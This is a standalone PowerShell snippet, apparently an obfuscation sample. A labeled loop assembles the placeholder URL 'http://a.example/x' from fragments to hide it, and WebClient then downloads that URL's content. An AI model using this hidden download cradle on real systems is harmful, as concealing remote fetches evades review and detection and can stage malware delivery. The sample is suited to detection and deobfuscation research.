$o='';:out foreach($a in 1..3){foreach($b in 'http://','a.example','/x','NO'){if($b -eq 'NO'){break out};$o+=$b}}
$wc = New-Object System.Net.WebClient
$wc.DownloadString($o)
